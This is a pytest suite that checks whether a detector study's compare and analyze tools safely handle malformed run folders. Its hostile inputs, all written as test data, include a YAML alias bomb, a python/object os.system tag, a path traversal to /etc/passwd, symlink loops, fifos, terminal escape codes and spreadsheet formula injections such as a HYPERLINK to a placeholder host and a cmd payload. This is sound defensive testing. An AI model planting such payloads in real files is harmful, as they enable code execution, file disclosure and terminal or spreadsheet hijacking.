"""A colleague's run folder is plain data that can still do harm. tools/compare.py and
tools/analyze.py on run folders whose files are malformed (generated below: many variants of
each file), that loop (links to . and ..), that explode (YAML aliases), whose class names are
broken mathtext, whose images lie outside the dataset, whose values are spreadsheet formulas or
terminal escapes, or that name one run twice. Each run is read or skipped with a one-line reason
naming its file; the tools finish (exit 0, or one ``error:`` line) in bounded time (SIGALRM)."""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import cv2
import numpy as np
import pytest
from helpers.hostile_files import deadline
from helpers.load_file import load_tool

from detector.study import StudyError, analyze, build_study, compare, find_runs
from detector.study.analysis import analyze_run
from detector.study.report import csv_cell, summary_text
from detector.study.summary import run_table
from detector.study.sweep_index import read_index

pytestmark = pytest.mark.filterwarnings("ignore:.*not a JSON object, skipped")

CLASSES = ("circle", "square")
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def _coco(names=CLASSES, file_names=("001.png", "002.png")) -> dict:
    """One circle and one square on each image."""
    images = [{"id": i, "file_name": f, "width": 64, "height": 64}
              for i, f in enumerate(file_names, 1)]
    anns = [{"id": 2 * i + c, "image_id": i, "category_id": c + 1, "bbox": box,
             "area": 400.0, "iscrowd": 0}
            for i in range(1, len(file_names) + 1)
            for c, box in enumerate(([4, 4, 20, 20], [36, 36, 20, 20]))]
    return {"images": images, "annotations": anns,
            "categories": [{"id": c + 1, "name": n} for c, n in enumerate(names)]}


def make_dataset(root: Path, coco: dict) -> Path:
    (root / "annotations").mkdir(parents=True)
    (root / "annotations" / "instances_val.json").write_text(json.dumps(coco))
    (root / "val").mkdir()
    for image in coco["images"]:
        if "/" not in image["file_name"] and "\0" not in image["file_name"]:
            cv2.imwrite(str(root / "val" / image["file_name"]), np.full((64, 64, 3), 99, np.uint8))
    return root


@pytest.fixture(scope="module")
def dataset(tmp_path_factory) -> Path:
    return make_dataset(tmp_path_factory.mktemp("data") / "tiny", _coco())


def _results(images=(1, 2)) -> list[dict]:
    """Every box found, plus a background false positive on each image (errors to show)."""
    found = [{"image_id": i, "category_id": c + 1, "bbox": box, "score": 0.9}
             for i in images for c, box in enumerate(([4, 4, 20, 20], [36, 36, 20, 20]))]
    return found + [{"image_id": i, "category_id": 1, "bbox": [40, 2, 10, 10], "score": 0.95}
                    for i in images]


def good_files(dataset: Path, seed: int, names=CLASSES) -> dict[str, bytes]:
    """The files of a finished run, as tools/train_net.py writes them."""
    split = {"_target_": "detector.data.CocoDetection", "root": str(dataset), "split": "val"}
    config = {"seed": seed, "name": "ce", "output_dir": "x", "loss": {"name": "ce"},
              "dataset": {"name": "tiny", "val": split, "train": split}}
    final = {"status": "finished", "iterations": 2, "wall_time_s": 60.0, "AP": 0.5 + seed / 100,
             "AP50": 0.8, "APs": None, "per_class": {n: 0.5 for n in names},
             "pr_iou50": {"iou": 0.5, "recall": [0.0, 0.5, 1.0],
                          "precision": {n: [1.0, 0.5, 0.0] for n in names}}}
    records = [{"iter": i, "phase": "end_to_end", "loss": 1.0 / i, "lr": 1e-3} for i in (1, 2)]
    return {"config.json": json.dumps(config).encode(),
            ".hydra/overrides.yaml": f"- experiment=ce\n- seed={seed}\n".encode(),
            "metrics.jsonl": "".join(json.dumps(r) + "\n" for r in records).encode(),
            "final_metrics.json": json.dumps(final).encode(),
            "final_results.json": json.dumps(_results()).encode()}


Content = bytes | Callable[[Path], None]


def write_run(folder: Path, files: dict[str, Content]) -> Path:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(content):
            content(path)
        else:
            path.write_bytes(content)
    return folder


# --- the generator of malformed files ----------------------------------------------------------


@dataclass(frozen=True)
class Variant:
    """``file`` of a run replaced by ``content``; ``expect``: "skip" (the run is left out with a
    reason naming the file), "load" (read, maybe not analysed) or "note" (read, not analysed)."""

    file: str
    name: str
    content: Content
    expect: str

    @property
    def id(self) -> str:
        return f"{self.file}:{self.name}"


def _folder(path: Path) -> None:
    path.mkdir()


def _link_loop(path: Path) -> None:
    os.symlink(path.name, path)  # a link to itself: ELOOP


def _fifo(path: Path) -> None:
    os.mkfifo(path)  # reading it would wait for a writer forever


def _dev_zero(path: Path) -> None:
    os.symlink("/dev/zero", path)  # reading it would never end


def _json(value) -> bytes:
    return json.dumps(value).encode()


def _not_json_files(file: str, expect: str, good: bytes) -> list[Variant]:
    """What any JSON file can be instead of JSON of the right shape."""
    return [Variant(file, name, content, expect) for name, content in [
        ("truncated", good[: len(good) // 2]), ("empty", b""),
        ("not_utf8", b'{"a": "\xff\xfe"}'), ("deep", b"[" * 100_000 + b"]" * 100_000),
        ("huge_int", b'{"AP": ' + b"9" * 5000 + b"}"), ("nan", b"NaN"), ("list", b"[1, 2]"),
        ("string", b'"text"'), ("folder", _folder), ("link_loop", _link_loop),
        ("fifo", _fifo), ("dev_zero", _dev_zero)]]


def _config_variants(good: bytes) -> list[Variant]:
    base = json.loads(good)

    def config(**changes) -> bytes:
        return _json({**base, **changes})

    deep: dict = {"leaf": 1}
    for _ in range(200):
        deep = {"a": deep}
    dataset = base["dataset"]
    return [*_not_json_files("config.json", "skip", good), *(
        Variant("config.json", name, content, expect) for name, content, expect in [
            ("seed_list", config(seed=[0]), "load"),
            ("seed_string", config(seed="zero"), "load"),
            ("dataset_name_object", config(dataset={**dataset, "name": {"a": 1}}), "load"),
            ("nested_200", config(deep=deep), "skip"),
            ("escape_key", config(**{"\x1b[2J": 1}), "skip"),
            ("long_key", config(**{"k" * 1000: 1}), "skip"),
            ("inf_value", good[:-1] + b', "lr": Infinity}', "load"),
            ("huge_float", good[:-1] + b', "lr": 1e999}', "load"),
            ("root_number", config(dataset={**dataset, "val": {**dataset["val"], "root": 5}}),
             "note"),
            ("ann_file_outside", config(dataset={**dataset, "val": {
                **dataset["val"], "ann_file": "../../../../../../../../etc/passwd"}}), "note"),
        ])]


def _final_variants(good: bytes) -> list[Variant]:
    base = json.loads(good)

    def final(**changes) -> bytes:
        return _json({**base, **changes})

    pr = base["pr_iou50"]
    return [*_not_json_files("final_metrics.json", "skip", good), *(
        Variant("final_metrics.json", name, content, expect) for name, content, expect in [
            ("status_list", final(status=["finished"]), "skip"),
            ("status_unknown", final(status="won"), "skip"),
            ("iterations_string", final(iterations="ten"), "skip"),
            ("iterations_inf", good[:-1] + b', "iterations": 1e400}', "skip"),
            ("iterations_huge", good[:-1] + b', "iterations": 1' + b"0" * 400 + b"}", "skip"),
            ("ap_string", final(AP="0.5"), "skip"),
            ("ap_nan", good[:-1] + b', "AP": NaN}', "skip"),
            ("ap_infinity", good[:-1] + b', "AP50": -Infinity}', "skip"),
            ("ap_huge", good[:-1] + b', "AP": 1' + b"0" * 400 + b"}", "skip"),
            ("wall_time_string", final(wall_time_s="1 h"), "skip"),
            ("per_class_list", final(per_class=[0.5, 0.5]), "skip"),
            ("per_class_string_ap", final(per_class={"circle": "x", "square": 0.5}), "skip"),
            ("per_class_escape", final(per_class={"\x1b[31m": 0.5}), "skip"),
            ("pr_list", final(pr_iou50=[1, 2]), "skip"),
            ("pr_recall_strings", final(pr_iou50={**pr, "recall": ["a", "b", "c"]}), "skip"),
            ("pr_ragged", final(pr_iou50={**pr, "precision": {"circle": [1.0], "square": None}}),
             "skip"),
            ("pr_precision_list", final(pr_iou50={**pr, "precision": [[1.0, 0.5, 0.0]]}), "skip"),
            ("diverged_lr_string", _json({"status": "diverged", "iteration": 3, "lr": "x"}),
             "skip"),
            ("diverged_no_lr", _json({"status": "diverged", "iteration": 3, "reason": ["x"]}),
             "load"),
        ])]


ALIAS_BOMB = "".join(
    [f"- &a0 [{', '.join(['x'] * 9)}]\n"]
    + [f"- &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 6)]).encode()


def _overrides_variants() -> list[Variant]:
    file = ".hydra/overrides.yaml"
    return [Variant(file, name, content, expect) for name, content, expect in [
        ("alias_bomb", ALIAS_BOMB, "skip"), ("anchor", b"- &a seed=1\n- *a\n", "skip"),
        ("mapping", b"seed: 1\n", "skip"), ("scalar", b"5\n", "skip"),
        ("nested", b"- [seed=1]\n", "skip"),
        ("python_tag", b"- !!python/object/apply:os.system ['true']\n", "skip"),
        ("not_utf8", b"- seed=\xff\n", "skip"), ("deep", b"[" * 20_000, "skip"),
        ("escape_key", b'- "\\e]0;pwned\\a=1"\n', "skip"), ("folder", _folder, "skip"),
        ("fifo", _fifo, "skip"), ("link_loop", _link_loop, "skip"),
        ("too_large", b"- a=1\n" * 60_000, "skip"),
        ("formula_value", b'- experiment==HYPERLINK("http://x")\n', "load"),
        ("empty", b"", "load"),
    ]]


def _metrics_variants() -> list[Variant]:
    def lines(*records: str) -> bytes:
        return "".join(r + "\n" for r in records).encode()

    return [Variant("metrics.jsonl", name, content, expect) for name, content, expect in [
        ("iter_string", lines('{"iter": "x", "loss": 1.0}'), "skip"),
        ("loss_string", lines('{"iter": 1, "loss": "x"}'), "skip"),
        ("loss_huge", lines('{"iter": 1, "loss": 1' + "0" * 400 + "}"), "skip"),
        ("phase_list", lines('{"iter": 1, "loss": 1.0, "phase": ["x"]}'), "skip"),
        ("phase_iter_string", lines('{"iter": 1, "loss": 1.0, "phase_iter": "x"}'), "skip"),
        ("iter_inf", lines('{"iter": Infinity, "loss": 1.0}'), "skip"),
        ("loss_nan", lines('{"iter": 1, "loss": NaN}', '{"iter": 2, "loss": Infinity}'), "load"),
        ("no_iter", lines('{"loss": 1.0, "phase": "a"}', '{"loss": 1.0, "phase": "b"}'), "load"),
        ("garbage_lines", lines("not json", "[1]", '{"iter": 1, "lo'), "load"),
        ("huge_int_line", lines('{"iter": ' + "9" * 5000 + "}"), "load"),
        ("deep_line", lines("[" * 100_000), "load"), ("not_utf8", b'{"iter": 1, "\xff": 1}\n',
                                                      "load"),
        ("folder", _folder, "skip"), ("fifo", _fifo, "skip"), ("link_loop", _link_loop, "skip"),
        ("dev_zero", _dev_zero, "skip"),
    ]]


def _results_variants() -> list[Variant]:
    good = _results()
    variants = [Variant("final_results.json", v.name, v.content, "note")
                for v in _not_json_files("final_results.json", "note", _json(good))]
    return variants + [Variant("final_results.json", name, content, "note") for name, content in [
        ("strings", _json(["a", "b"])),
        ("image_id_string", _json([{**good[0], "image_id": "1"}])),
        ("bbox_three", _json([{**good[0], "bbox": [1, 2, 3]}])),
        ("score_nan", b'[{"image_id": 1, "category_id": 1, "bbox": [1, 2, 3, 4], "score": NaN}]'),
        ("unknown_category", _json([{**good[0], "category_id": 7}])),
        ("unknown_image", _json([{**good[0], "image_id": 99}])),
        ("huge_image_id", _json([{**good[0], "image_id": 10 ** 30}])),
    ]] + [Variant("final_results.json", name, content, "load") for name, content in [
        ("bbox_huge", _json([{**good[0], "bbox": [0, 0, 1e308, 1e308]}, *good[1:]])),
        ("score_out_of_range", _json([{**good[0], "score": 5.0}, *good[1:]])),
        ("empty_list", b"[]"),
    ]]


def _checkpoint_results_variants() -> list[Variant]:
    """tools/eval.py's results in checkpoints/ (no final_results.json): never waited on."""
    return [Variant("checkpoints/final_val_results.json", name, content, "note")
            for name, content in [("fifo", _fifo), ("dangling_link", lambda p: os.symlink(
                "nowhere.json", p)), ("link_loop", _link_loop), ("folder", _folder)]]


PLACEHOLDER = "@DATASET@"  # the dataset root in generated configs, replaced when written


def _all_variants() -> list[Variant]:
    good = good_files(Path(PLACEHOLDER), 1)
    return [*_config_variants(good["config.json"]), *_final_variants(good["final_metrics.json"]),
            *_overrides_variants(), *_metrics_variants(), *_results_variants(),
            *_checkpoint_results_variants()]


VARIANTS = _all_variants()


def _bad_run(folder: Path, dataset: Path, variant: Variant) -> Path:
    files: dict[str, Content] = dict(good_files(dataset, 1))
    if variant.file.startswith("checkpoints/"):
        del files["final_results.json"]
    content = variant.content
    if isinstance(content, bytes):
        content = content.replace(PLACEHOLDER.encode(), str(dataset).encode())
    files[variant.file] = content
    return write_run(folder, files)


@pytest.mark.parametrize("variant", VARIANTS, ids=[v.id for v in VARIANTS])
def test_a_malformed_run_is_read_or_skipped_with_its_reason(variant, dataset, tmp_path):
    sweep = tmp_path / "sweep"
    write_run(sweep / "good", good_files(dataset, 0))
    _bad_run(sweep / "bad", dataset, variant)
    skipped: list[tuple[str, str]] = []
    with deadline(30):
        runs = find_runs([sweep], skipped)
        study = build_study(runs)
        text = summary_text(study, skipped)
        [[csv_cell(value) for value in row] for row in run_table(study, raw=True)]
        bad = [analyze_run(run) for run in runs if run.name == "bad"]
    names = sorted(run.name for run in runs)
    if variant.expect == "skip":
        assert names == ["good"] and [name for name, _ in skipped] == ["bad"]
        reason = skipped[0][1]
        assert Path(variant.file).name in reason and "\n" not in reason
        assert "skipped 1 run: bad (" in text
    else:
        assert names == ["bad", "good"] and not skipped
        if variant.expect == "note":
            assert not bad[0].analysed and bad[0].note and "\n" not in bad[0].note


# --- the tools, on everything at once ------------------------------------------------------------


def _sweep_of_every_variant(root: Path, dataset: Path) -> Path:
    for seed in (0, 1):
        write_run(root / f"good{seed}", good_files(dataset, seed))
    for n, variant in enumerate(VARIANTS):
        _bad_run(root / f"v{n:03d}", dataset, variant)
    os.symlink(".", root / "loop")
    os.symlink("..", root / "up")
    return root


def test_the_tools_finish_on_a_sweep_of_every_malformed_run(dataset, tmp_path, capsys):
    sweep = _sweep_of_every_variant(tmp_path / "sweep", dataset)
    expected = sum(v.expect == "skip" for v in VARIANTS)
    with deadline(240):
        compared = load_tool("compare.py").main([str(sweep), "--out", str(tmp_path / "c")])
        printed = capsys.readouterr()
        analysed = load_tool("analyze.py").main([str(sweep), "--out", str(tmp_path / "a"),
                                                 "--worst", "1"])
        printed_a = capsys.readouterr()
    assert compared == 0 and analysed == 0, printed.err + printed_a.err
    for out in (printed.out, printed_a.out):
        assert f"skipped {expected} runs: " in out and "\x1b" not in out
    for png in ("curves.png", "pr_curves.png"):
        assert (tmp_path / "c" / png).read_bytes().startswith(PNG_MAGIC)
    for png in ("errors.png", "calibration.png", "confusion.png"):
        assert (tmp_path / "a" / png).read_bytes().startswith(PNG_MAGIC)


MATHTEXT = ("$\\frac", "a$b", "$x^$", "$\\undefinedcommand$")


def test_class_names_that_are_broken_mathtext_are_drawn_as_written(tmp_path, capsys):
    dataset = make_dataset(tmp_path / "data", _coco(names=MATHTEXT[:2]))
    for seed, names in ((0, MATHTEXT[:2]), (1, MATHTEXT[:2])):
        files = good_files(dataset, seed, names=names)
        files[".hydra/overrides.yaml"] = f"- experiment={MATHTEXT[2 + seed]}\n".encode()
        write_run(tmp_path / "sweep" / f"run{seed}", files)
    with deadline(120):
        compared = load_tool("compare.py").main([str(tmp_path / "sweep"), "--out",
                                                 str(tmp_path / "c")])
        analysed = load_tool("analyze.py").main([str(tmp_path / "sweep"), "--out",
                                                 str(tmp_path / "a"), "--worst", "1"])
    err = capsys.readouterr().err
    assert compared == 0 and analysed == 0, err
    assert (tmp_path / "c" / "pr_curves.png").read_bytes().startswith(PNG_MAGIC)
    assert (tmp_path / "a" / "confusion.png").read_bytes().startswith(PNG_MAGIC)
    assert len(list((tmp_path / "a" / "worst").rglob("*.png"))) == 2


# --- findings one by one -------------------------------------------------------------------------


def test_analysis_reads_images_only_under_the_dataset_root(tmp_path):
    outside = tmp_path / "private"
    outside.mkdir()
    cv2.imwrite(str(outside / "secret.png"), np.full((64, 64, 3), 7, np.uint8))
    names = ("001.png", "../../private/secret.png", str(outside / "secret.png"), "a\x00b.png")
    dataset = make_dataset(tmp_path / "data", _coco(file_names=names))
    files = good_files(dataset, 0)
    files["final_results.json"] = _json(_results(images=(1, 2, 3, 4)))
    run = write_run(tmp_path / "run", files)
    with deadline(60):
        report = analyze([run], tmp_path / "out")
    panels = sorted(p.name for p in (tmp_path / "out" / "worst").rglob("*.png"))
    assert panels == ["01_image1.png"]  # 4 images with one error each; 3 outside the root
    assert "left out 3 images (3 outside the dataset root)" in report.text


def test_spreadsheet_formulas_are_neutralised_and_numbers_stay_numbers(dataset, tmp_path):
    for n, (experiment, lr) in enumerate((('=HYPERLINK("http://x/?"&A1)', "-0.5"),
                                          ("@SUM(A1:A9)", "+1e-3"))):
        files = good_files(dataset, n)
        files[".hydra/overrides.yaml"] = f"- experiment={experiment}\n- optimizer.lr={lr}\n" \
            .encode()
        write_run(tmp_path / "sweep" / f"run{n}", files)
    with deadline(60):
        compare([tmp_path / "sweep"], tmp_path / "out")
    rows = list(csv.DictReader((tmp_path / "out" / "summary.csv").open()))
    assert [r["experiment"] for r in rows] == ["'=HYPERLINK(\"http://x/?\"&A1)", "'@SUM(A1:A9)"]
    assert [r["optimizer.lr"] for r in rows] == ["-0.5", "+1e-3"]
    assert float(rows[0]["AP"]) == pytest.approx(0.5)
    assert [csv_cell(v) for v in ("-cmd|' /C calc'!A0", "\t=1", -0.5, None, "-.5e3", "- 1")] == [
        "'-cmd|' /C calc'!A0", "\\t=1", -0.5, "", "-.5e3", "'- 1"]


def test_a_run_named_twice_counts_once(dataset, tmp_path):
    sweep = tmp_path / "sweep"
    for seed in (0, 1, 2):
        write_run(sweep / f"seed{seed}", good_files(dataset, seed))
    os.symlink(sweep / "seed0", tmp_path / "alias")
    spellings = [sweep, sweep / "seed1" / ".." / "seed0", tmp_path / "alias",
                 Path(os.path.relpath(sweep / "seed2"))]
    runs = find_runs(spellings)
    assert sorted(run.name for run in runs) == ["seed0", "seed1", "seed2"]
    report = compare(spellings, tmp_path / "out")
    assert [len(group.runs) for group in report.study.groups] == [3]
    assert report.study.groups[0].stat("AP") == pytest.approx((0.51, 0.01, 3))


def test_the_walk_follows_no_link_loop(dataset, tmp_path):
    sweep = tmp_path / "sweep"
    write_run(sweep / "a" / "run", good_files(dataset, 0))
    write_run(sweep / "b" / "run", good_files(dataset, 1))
    for i in range(4):  # the old walk went down every link at every level: 4 ** depth folders
        os.symlink(".", sweep / f"here{i}")
        os.symlink("..", sweep / "a" / f"up{i}")
    os.symlink(sweep / "b", sweep / "b-again")
    with deadline(20):
        runs = find_runs([sweep])
    assert sorted(run.name for run in runs) == ["a/run", "b/run"]


def test_a_report_folder_of_links_writes_nowhere_else(dataset, tmp_path, capsys):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    sweep = tmp_path / "sweep"
    write_run(sweep / "run", good_files(dataset, 0))
    (sweep / "analysis").mkdir()
    os.symlink(victim, sweep / "analysis" / "analysis.md")
    os.symlink(tmp_path, sweep / "analysis" / "worst")
    os.symlink(tmp_path / "elsewhere", sweep / "compare")
    with deadline(60):
        assert load_tool("compare.py").main([str(sweep)]) == 2
        assert load_tool("analyze.py").main([str(sweep), "--worst", "1"]) == 0
    err = capsys.readouterr().err
    assert err.count("error: ") == 1 and "symbolic link" in err and "--out" in err
    assert victim.read_text() == "keep me" and not (tmp_path / "elsewhere").exists()
    assert not (sweep / "analysis" / "analysis.md").is_symlink()
    assert not (sweep / "analysis" / "worst").is_symlink() and not (tmp_path / "run").exists()


def test_names_from_files_reach_the_terminal_escaped(dataset, tmp_path, capsys):
    write_run(tmp_path / "sweep" / "\x1b]2;pwned\x07run", good_files(dataset, 0))
    write_run(tmp_path / "sweep" / os.fsdecode(b"\xff-run"), good_files(dataset, 1))
    with deadline(60):
        assert load_tool("compare.py").main([str(tmp_path / "sweep"), "--out",
                                             str(tmp_path / "out")]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed
    assert "\\x1b]2;pwned\\x07run" in printed and "\\udcff-run" in printed


def test_nothing_readable_is_one_line(dataset, tmp_path, capsys):
    for n, variant in enumerate(v for v in VARIANTS if v.expect == "skip" and v.name == "list"):
        _bad_run(tmp_path / "sweep" / f"run{n}", dataset, variant)
    with pytest.raises(StudyError, match=r"^no run could be read: skipped 2 runs: run0 \("):
        find_runs([tmp_path / "sweep"])
    assert load_tool("analyze.py").main([str(tmp_path / "sweep")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: no run could be read") and err.count("\n") == 1


def test_a_sweep_index_of_malformed_lines_keeps_the_good_ones(tmp_path):
    good = {"job": 0, "overrides": ["seed=0"], "dir": "seed=0", "status": "finished",
            "iterations": 3, "AP": 0.5, "AP50": 0.7}
    lines = [json.dumps(good), '{"job": [1]}', '{"job": {"a": 1}, "overrides": []}',
             '{"job": 2, "overrides": "seed=2", "dir": "x", "status": "finished"}',
             '{"job": 3, "overrides": [], "dir": "x", "status": "diverged", "lr": "x"}',
             "[" * 100_000, '{"job": ' + "9" * 5000 + "}", "\xff"]
    (tmp_path / "sweep.jsonl").write_text("\n".join(lines) + "\n")
    assert read_index(tmp_path) == [good]
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "fifo_sweep").mkdir()
    os.symlink(tmp_path / "fifo", tmp_path / "fifo_sweep" / "sweep.jsonl")
    with deadline(10):
        assert read_index(tmp_path / "fifo_sweep") == []
